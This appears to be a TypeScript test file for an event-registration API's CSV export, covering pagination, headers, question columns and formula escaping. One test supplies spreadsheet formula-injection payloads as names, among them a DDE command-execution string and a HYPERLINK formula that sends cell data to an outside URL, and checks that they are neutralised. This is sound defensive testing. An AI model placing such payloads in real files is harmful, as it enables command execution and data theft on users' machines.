import { parse } from 'csv-parse/sync';
import Papa from 'papaparse';
import { operations } from '../contract/contract.ts';
import { guarded } from '../../src/lib/csv.ts';
import { startTestApi, type TestApi, type TestResponse, transports } from '../support/api.ts';
import { concert, draft, published, succeed } from '../support/events.ts';
import { expectProblem } from '../support/problems.ts';
import {
  callAs,
  join,
  joinAll,
  leave,
  mira,
  newPeople,
  newPerson,
  registrationsOf,
  seedEntries,
} from '../support/registrations.ts';
import { recordOf, registrationOf, seed, seedSeats } from '../support/seed.ts';
import { inFull, sampled } from '../support/sample.ts';

/** The names of the columns, as the description of the operation lists them. Those of questions come before `registeredAt`. */
const description = operations.find(({ operationId }) => operationId === 'listRegistrations')?.description ?? '';
const [, sentence = ''] = /The columns are (.*?)\./s.exec(description) ?? [];
const names = [...sentence.matchAll(/`(\w+)`/g)].map(([, name = '']) => name);
const lineOf = (cellOf: (name: string) => string | undefined) =>
  names.map((name) => `"${cellOf(name) ?? ''}"`).join(',') + '\r\n';
const headerRow = lineOf((name) => name);
type Row = Readonly<Record<string, string>>;

/** The rows of a file, as each of two independent parsers reads them; they must agree. */
function rowsOf(file: string): Row[] {
  const rows: Row[] = parse(file, { bom: true, columns: true, record_delimiter: '\r\n' });
  const { data, errors } = Papa.parse(file, { header: true, newline: '\r\n', skipEmptyLines: true });
  expect(errors).toEqual([]);
  expect(data).toEqual(rows);
  return rows;
}

/** The parameters of a function after the API. */
type Parts<F> = F extends (api: TestApi, ...parts: infer P) => unknown ? P : never;

function listFrom(api: TestApi, event: { eventId: string }, query = '', accept = 'text/csv', caller = 'organizer') {
  return callAs(api, caller, 'listRegistrations', event, { query, headers: { accept } });
}

/** The path of the next page, as the header says it; undefined after the last one. */
const nextOf = ({ headers }: TestResponse) => /^<([^>]+)>; rel="next"$/.exec(headers['link'] ?? '')?.[1];

/** All pages of an export, from the first to the last by their links. */
async function pagesFrom(api: TestApi, event: { eventId: string }, query = ''): Promise<TestResponse[]> {
  const pages = [await listFrom(api, event, query)];
  for (let next = nextOf(pages[0] as TestResponse); next !== undefined;) {
    const page = await api.send({ path: next, as: 'organizer', headers: { accept: 'text/csv' } });
    expect(page.status).toBe(200);
    pages.push(page);
    next = nextOf(page);
  }
  return pages;
}

describe.each(transports)('listRegistrations as CSV (%s)', (transport) => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi(transport);
  });
  afterAll(() => api.stop());

  const list = (...args: Parts<typeof listFrom>) => listFrom(api, ...args);
  const pagesOf = (...args: Parts<typeof pagesFrom>) => pagesFrom(api, ...args);
  const fileOf = async (...args: Parts<typeof pagesFrom>) => (await pagesOf(...args)).map(({ text }) => text).join('');

  /** An event with these registrations in the database, numbered from 1. */
  async function seeded(people: readonly Parameters<typeof registrationOf>[0][]): Promise<{ eventId: string }> {
    const event = recordOf();
    await seed(api.tables, [event]);
    await seedSeats(api.tables, event.eventId, { lastNumber: people.length, reclaimedUpTo: people.length });
    const records = people.map((one, index) => registrationOf({ eventId: event.eventId, number: index + 1, ...one }));
    await seedEntries(api.tables, records);
    return event;
  }

  it('returns one row for each registration, and names in the first', async () => {
    const event = await published(api, { ...concert, capacity: 1 });
    const people = newPeople(4);
    await joinAll(api, event, people);
    const { cancellation } = await leave(api, event, people[2] ?? '', { reason: 'I cannot come.' });
    await callAs(api, people[3] ?? '', 'deleteMyRegistration', event);
    const response = await list(event);
    expect(response).toMatchObject({
      status: 200,
      headers: {
        'content-type': 'text/csv; charset=utf-8; header=present',
        'content-disposition': 'attachment; filename="registrations.csv"',
        'cache-control': 'no-store',
        vary: 'Accept',
      },
    });
    expect(response.headers).not.toHaveProperty('link');
    const { items } = await registrationsOf(api, event);
    const [first, second, third, last] = items;
    const line = (cells: Readonly<Record<string, string | undefined>>) => lineOf((name) => cells[name]);
    expect(response.text).toBe(
      `\ufeff${headerRow}` +
        line({ number: '1', status: 'confirmed', ...mira, registeredAt: first?.registeredAt }) +
        line({ number: '2', status: 'waitlisted', ...mira, registeredAt: second?.registeredAt }) +
        line({
          number: '3',
          status: 'cancelled',
          ...mira,
          registeredAt: third?.registeredAt,
          cancelledAt: cancellation?.at,
        }) +
        line({
          number: '4',
          status: 'cancelled',
          registeredAt: last?.registeredAt,
          cancelledAt: last?.cancellation?.at,
        }),
    );
  });

  it('returns when people were checked in', async () => {
    const event = await seeded([{ checkedInAt: '2026-01-03T10:00:00Z' }, {}]);
    expect(rowsOf(await fileOf(event)).map(({ checkedInAt }) => checkedInAt)).toEqual(['2026-01-03T10:00:00Z', '']);
  });

  it('has neither codes nor digests of tickets, nor ids of users', async () => {
    const event = await published(api);
    const person = newPerson();
    const { code = '' } = await join(api, event, person);
    const { text } = await list(event);
    for (const secret of [code, code.slice(28), person]) expect(text).not.toContain(secret);
  });

  it('returns the names only for an event without registrations', async () => {
    const old = recordOf();
    await seed(api.tables, [old]);
    for (const event of [await draft(api), await published(api), old])
      expect((await list(event)).text).toBe(`\ufeff${headerRow}`);
  });

  it.each([
    'text/csv',
    'text/*',
    'TEXT/CSV; charset=utf-8',
    'text/csv; header=absent',
    'application/json;q=0.5, text/csv',
    'text/csv, */*;q=0.1',
    '*/*;q=0.1, text/*',
  ])('is returned for Accept: %s', async (accept) => {
    const { headers } = await list(await published(api), '', accept);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
  });

  it.each([
    '*/*',
    '',
    'application/json',
    'application/*',
    'application/json, text/csv',
    'text/csv;q=0.5, application/json',
    'text/csv;q=0, */*',
    'text/csv;q=0',
    'text/html, application/xhtml+xml, */*;q=0.8',
    'text/calendar',
    'application/problem+json',
    'nonsense',
  ])('is not returned for Accept: "%s", but JSON, and never 406', async (accept) => {
    const response = await list(await published(api), '', accept);
    expect(response).toMatchObject({ status: 200, headers: { 'content-type': 'application/json', vary: 'Accept' } });
    expect(response.body).toEqual({ items: [] });
    for (const name of ['link', 'content-disposition']) expect(response.headers).not.toHaveProperty(name);
  });

  it('is returned by no other operation', async () => {
    const event = await published(api);
    await join(api, event, 'organizer');
    for (const operationId of ['listEvents', 'getEvent', 'getRegistration', 'listMyRegistrations'] as const) {
      const response = await callAs(api, 'organizer', operationId, event, {
        number: 1,
        headers: { accept: 'text/csv' },
      });
      expect(response).toMatchObject({ status: 200, headers: { 'content-type': 'application/json' } });
      expect(response.headers['vary'] ?? '').not.toContain('Accept');
    }
  });

  it('has problems as JSON', async () => {
    const event = await published(api);
    for (const [problem, response] of [
      ['forbidden', await list(event, '', 'text/csv', 'attendee')],
      ['not-event-organizer', await list(event, '', 'text/csv', 'rival')],
      ['invalid-cursor', await list(event, 'cursor=abc')],
      ['event-not-found', await list({ eventId: '00000000-0000-4000-8000-000000000000' })],
    ] as const) {
      expectProblem(response, problem);
      expect(response.headers['content-type']).toBe('application/problem+json');
    }
    expect((await list(event, 'limit=0')).body).toMatchObject({ code: 'invalid-request' });
  });

  it('has the headers without a body for HEAD', async () => {
    const event = await published(api);
    await joinAll(api, event, newPeople(2));
    const path = `/events/${event.eventId}/registrations?limit=1`;
    const request = { path, as: 'organizer', headers: { accept: 'text/csv' } } as const;
    const [get, head] = [await api.send(request), await api.send({ ...request, method: 'HEAD' })];
    expect(head.text).toBe('');
    expect(head.status).toBe(200);
    for (const name of ['content-type', 'content-disposition', 'vary'])
      expect(head.headers[name]).toBe(get.headers[name]);
    expect(head.headers['link']).toMatch(/rel="next"/);
  });

  it.each(sampled([1, 2, 3, 1000]))(
    'has pages of %d registrations that make one file, one after the other',
    async (limit) => {
      const event = await seeded(Array.from({ length: 5 }, (_, index) => ({ name: `Person ${index + 1}` })));
      const pages = await pagesOf(event, `limit=${limit}`);
      expect(pages).toHaveLength(Math.max(1, Math.ceil(5 / limit)));
      pages.forEach(({ headers, text }, index) => {
        expect(headers['content-type']).toBe(`text/csv; charset=utf-8; header=${index === 0 ? 'present' : 'absent'}`);
        expect(text.startsWith('\ufeff')).toBe(index === 0);
        expect(headers).toHaveProperty('content-disposition');
      });
      const file = pages.map(({ text }) => text).join('');
      expect(file).toBe((await list(event)).text);
      expect(rowsOf(file).map(({ number, name }) => [number, name])).toEqual(
        [1, 2, 3, 4, 5].map((number) => [String(number), `Person ${number}`]),
      );
    },
  );

  it('keeps the filters, the order and the limit in the link', async () => {
    const cancellation = { at: '2026-01-03T00:00:00Z', by: 'attendee' } as const;
    const event = await seeded(Array.from({ length: 6 }, (_, index) => (index % 2 ? { cancellation } : {})));
    const query = 'status=cancelled&status=waitlisted&order=desc&limit=2';
    const pages = await pagesOf(event, query);
    const next = new URL(nextOf(pages[0] as TestResponse) ?? '', 'https://api.example.com');
    expect(next.pathname).toBe(`/events/${event.eventId}/registrations`);
    expect(next.searchParams.getAll('status')).toEqual(['cancelled', 'waitlisted']);
    expect([next.searchParams.get('order'), next.searchParams.get('limit')]).toEqual(['desc', '2']);
    expect(rowsOf(pages.map(({ text }) => text).join('')).map(({ number }) => number)).toEqual(['6', '4', '2']);
  });

  inFull('may have pages without rows, with a link or after all others', async () => {
    const cancellation = { at: '2026-01-03T00:00:00Z', by: 'attendee' } as const;
    const event = await seeded(Array.from({ length: 2_101 }, (_, index) => (index === 2_100 ? {} : { cancellation })));
    const pages = await pagesOf(event, 'status=confirmed&status=waitlisted&limit=1000');
    expect(pages.map(({ text }) => text.split('\r\n').length - 1)).toEqual([1, 1]);
    const last = await published(api);
    await joinAll(api, last, newPeople(2));
    const next = nextOf(await list(last, 'limit=1&order=desc')) ?? '';
    await callAs(api, 'organizer', 'cancelRegistration', last, { number: 1 });
    const active = nextOf(await list(last, 'limit=1&status=confirmed&status=waitlisted&order=desc'));
    expect((await api.send({ path: next, as: 'organizer', headers: { accept: 'text/csv' } })).text).toContain('"1"');
    const empty = await api.send({ path: active ?? '', as: 'organizer', headers: { accept: 'text/csv' } });
    expect(empty).toMatchObject({
      status: 200,
      text: '',
      headers: { 'content-type': 'text/csv; charset=utf-8; header=absent', 'content-length': '0' },
    });
  });

  it('has cursors of its own: those of JSON are invalid, and the other way round', async () => {
    const event = await published(api);
    await joinAll(api, event, newPeople(3));
    const { nextCursor } = await registrationsOf(api, event, 'limit=1');
    const next = nextOf(await list(event, 'limit=1')) ?? '';
    const cursor = new URL(next, 'https://api.example.com').searchParams.get('cursor');
    expectProblem(await list(event, `limit=1&cursor=${nextCursor}`), 'invalid-cursor');
    expectProblem(await list(event, `limit=1&cursor=${cursor}`, '*/*'), 'invalid-cursor');
    expect((await list(event, `limit=1&cursor=${cursor}`)).status).toBe(200);
  });

  it('has a column for each question that the event has now', async () => {
    const questions = [
      { questionId: 'meal', kind: 'choice', label: 'Which meal?', options: ['Vegan', '=1+1'] },
      { questionId: 'days', kind: 'choices', label: 'Which days?', options: ['Friday', 'Saturday'] },
      { questionId: 'rules', kind: 'checkbox', label: 'I have read the rules.' },
      { questionId: 'name', kind: 'long-text', label: 'Which name is on the badge?' },
    ] as const;
    const event = await published(api, { ...concert, questions });
    const given = { meal: '=1+1', days: ['Friday', 'Saturday'], rules: true, name: 'Mira\n=1+1' };
    await join(api, event, newPerson(), { ...mira, answers: given });
    await join(api, event);
    const [first, second] = rowsOf(await fileOf(event, 'limit=1'));
    const asked = ['meal', 'days', 'rules', 'answers.name'];
    expect(Object.keys(first ?? {})).toEqual(names.toSpliced(names.indexOf('registeredAt'), 0, ...asked));
    expect(first).toMatchObject({
      name: 'Mira Novak',
      meal: "'=1+1",
      days: 'Friday; Saturday',
      rules: 'true',
      'answers.name': "Mira\n'=1+1",
    });
    expect(second).toMatchObject({ meal: '', days: '', rules: '', 'answers.name': '' });
  });

  it('ends with invalid-cursor if the questions change between two pages, and JSON does not', async () => {
    const question = { questionId: 'meal', kind: 'text', label: 'Which meal?' } as const;
    const event = await published(api, { ...concert, questions: [question] });
    await joinAll(api, event, newPeople(3));
    const { nextCursor } = await registrationsOf(api, event, 'limit=1');
    const next = nextOf(await list(event, 'limit=1')) ?? '';
    const page = () => api.send({ path: next, as: 'organizer', headers: { accept: 'text/csv' } });
    const relabelled = [{ ...question, label: 'Which meal do you like?' }];
    await succeed(api, 'updateEvent', event, { body: { questions: relabelled } });
    expect((await page()).status).toBe(200);
    await succeed(api, 'updateEvent', event, { body: { questions: null } });
    expectProblem(await page(), 'invalid-cursor');
    expect((await registrationsOf(api, event, `limit=2&cursor=${nextCursor}`)).items).toHaveLength(2);
  });

  it('has the names that people really have, and no formula', async () => {
    const accepted = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '=HYPERLINK("https://example.com?"&A1,"Click")',
      "=cmd|' /C calc'!A0",
      '＝1+1',
      '"=1+1',
      'a;=1+1',
      'Mira "Mi" Novak',
      'Novak, Mira; Dr.',
      "O'Neill",
      'مرحبا, "עברית"',
      '👩‍👩‍👧‍👦 🎷',
      'x'.repeat(100),
      '"'.repeat(100),
      '= '.repeat(50).trim(),
    ];
    const event = await published(api);
    for (const name of accepted) await join(api, event, newPerson(), { name, email: '=a+b@example.com' });
    const file = await fileOf(event, 'limit=7');
    expect(rowsOf(file).map(({ name }) => name)).toEqual(accepted.map(guarded));
    const cells: string[] = parse(file, { bom: true }).flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r\n\0]/);
    for (const { email } of rowsOf(file)) expect(email).toBe("'=a+b@example.com");
  });

  it('keeps what the database may hold from elsewhere: control characters, line breaks and byte order marks', async () => {
    const stored = ['a\r\nb', '\r\n=1', '\tx', 'a\0b', '\0=1', '\ufeff=1', 'line\nline', '"\r\n"', 'a\u2028b'];
    const event = await seeded(stored.map((name) => ({ name })));
    expect(rowsOf(await fileOf(event, 'limit=2')).map(({ name }) => name)).toEqual(stored.map(guarded));
  });

  it('has names of spaces and control characters refused before they are stored', async () => {
    const event = await published(api);
    for (const name of ['a\0b', 'a\nb', 'a\r=1', ' ', '\t'])
      expect(await callAs(api, newPerson(), 'registerForEvent', event, { body: { ...mira, name } })).toMatchObject({
        status: 400,
      });
  });

  it('leaves nothing of the rows in the log', async () => {
    const event = await published(api);
    await join(api, event, newPerson(), { name: 'Zebra Novak', email: 'zebra.novak@example.com' });
    api.log.length = 0;
    await fileOf(event, 'limit=1');
    expect(api.log.length).toBeGreaterThan(0);
    expect(JSON.stringify(api.log)).not.toMatch(/zebra/i);
  });
});

describe.each(transports)('listRegistrations as CSV below a base path (%s)', (transport) => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi(transport, { config: { basePath: '/api/v1' } });
  });
  afterAll(() => api.stop());

  it('has links with the base path', async () => {
    const event = recordOf();
    await seed(api.tables, [event]);
    await seedSeats(api.tables, event.eventId, { lastNumber: 2, reclaimedUpTo: 2 });
    await seedEntries(
      api.tables,
      [1, 2].map((number) => registrationOf({ eventId: event.eventId, number })),
    );
    const path = `/api/v1/events/${event.eventId}/registrations`;
    const { headers } = await api.send({ path: `${path}?limit=1`, as: 'organizer', headers: { accept: 'text/csv' } });
    const [, next = ''] = /^<([^>]+)>; rel="next"$/.exec(headers['link'] ?? '') ?? [];
    expect(next.startsWith(`${path}?`)).toBe(true);
    const second = await api.send({ path: next, as: 'organizer', headers: { accept: 'text/csv' } });
    expect(second.text).toMatch(/^"2",/);
    expect(second.headers).not.toHaveProperty('link');
  });
});

describe('listRegistrations as CSV of many long texts', () => {
  let api: TestApi;
  beforeAll(async () => {
    api = await startTestApi(transports[0] as (typeof transports)[number]);
  });
  afterAll(() => api.stop());

  inFull(
    'has pages of at most 3 MB, and all registrations in them',
    async () => {
      const questions = ['a', 'b', 'c', 'd'].map(
        (questionId) => ({ questionId, kind: 'long-text', label: 'A text?' }) as const,
      );
      const event = recordOf({ questions });
      const answers = Object.fromEntries(questions.map(({ questionId }) => [questionId, '"'.repeat(480)]));
      const count = 800;
      await seed(api.tables, [event]);
      await seedSeats(api.tables, event.eventId, { lastNumber: count, reclaimedUpTo: count });
      const { eventId } = event;
      await seedEntries(
        api.tables,
        Array.from({ length: count }, (_, index) => registrationOf({ eventId, number: index + 1, answers })),
      );
      const pages = await pagesFrom(api, event, 'limit=1000');
      expect(pages.length).toBeGreaterThan(1);
      for (const { text } of pages) expect(Buffer.byteLength(text)).toBeLessThan(3e6);
      expect(rowsOf(pages.map(({ text }) => text).join(''))).toHaveLength(count);
    },
    60_000,
  );
});
